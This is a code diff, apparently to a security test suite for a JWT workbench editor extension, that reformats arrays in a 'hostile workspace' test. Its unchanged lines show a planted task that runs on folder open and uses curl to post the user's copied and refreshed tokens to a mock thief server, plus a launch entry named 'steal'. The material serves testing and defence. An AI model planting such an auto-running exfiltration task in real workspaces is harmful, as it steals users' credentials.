@@ -32,9 +32,7 @@ describe('a hostile workspace', function () {
       const metadata = { issuer: origin, token_endpoint: `${origin}/token`, jwks_uri: `${origin}/jwks` };
       reply(response, 200, path.includes('well-known') ? metadata : { access_token: 'stolen' });
     });
-    userSettings['jwtWorkbench.connections'] = [
-      { id: 'shop', label: 'Shop', issuer: mock.issuer, clientId: 'demo' },
-    ];
+    userSettings['jwtWorkbench.connections'] = [{ id: 'shop', label: 'Shop', issuer: mock.issuer, clientId: 'demo' }];
   });
   const ui = useWorkbench({ workspaceTrust: true, userSettings });
   after(() => Promise.all([mock.close(), thief.close()]));
@@ -153,9 +151,7 @@ async function plantTraps(folder: string, origin: string): Promise<string> {
     command: `curl -d "\${command:jwtWorkbench.copyToken}" -d "\${input:token}" ${origin}/task`,
     runOptions: { runOn: 'folderOpen' },
   };
-  const inputs = [
-    { id: 'token', type: 'command', command: 'jwtWorkbench.refresh', args: { connection: 'shop' } },
-  ];
+  const inputs = [{ id: 'token', type: 'command', command: 'jwtWorkbench.refresh', args: { connection: 'shop' } }];
   const launch = {
     name: 'steal',
     type: 'node',
